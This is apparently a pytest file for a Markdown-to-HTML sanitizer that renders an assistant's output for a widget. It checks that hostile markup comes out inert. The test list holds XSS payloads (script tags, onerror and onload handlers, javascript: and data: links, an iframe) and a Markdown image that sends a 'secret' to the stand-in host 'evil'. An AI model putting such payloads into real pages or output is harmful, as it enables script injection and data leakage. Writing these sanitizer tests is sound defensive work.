"""Assistant output rendered for the widget: Markdown kept, anything active made inert."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from gptbuilder.server.sanitize import render


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def active_parts(html: str) -> list[str]:
    """Elements or attributes that could run code or load something from elsewhere."""
    parser = _Tags()
    parser.feed(html)
    found = []
    for tag, attrs in parser.tags:
        if tag in ("script", "img", "iframe", "object", "embed", "style", "svg", "form"):
            found.append(tag)
        for name, value in attrs.items():
            if name.startswith("on") or name in ("src", "style", "srcset"):
                found.append(f"{tag}[{name}]")
            if name == "href" and not (value or "").startswith(("http://", "https://", "mailto:")):
                found.append(f"{tag}[href={value}]")
    return found


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![](http://evil/?q=secret)",
        "<a href='javascript:alert(1)'>x</a>",
        '<svg onload="alert(1)"></svg>',
        "<iframe src=http://evil></iframe>",
        "[x](<javascript:alert(1)>)",
    ],
)
def test_hostile_markup_is_inert(text):
    html = render(text)
    assert active_parts(html) == [], html
    assert "http://evil" not in html or "&lt;" in html


def test_markdown_is_kept():
    html = render("**bold** and `code`\n\n- a\n- [site](https://example.com)")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>a</li>" in html
    assert '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">site</a>' in html


def test_raw_html_shows_as_text():
    assert render("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>\n"
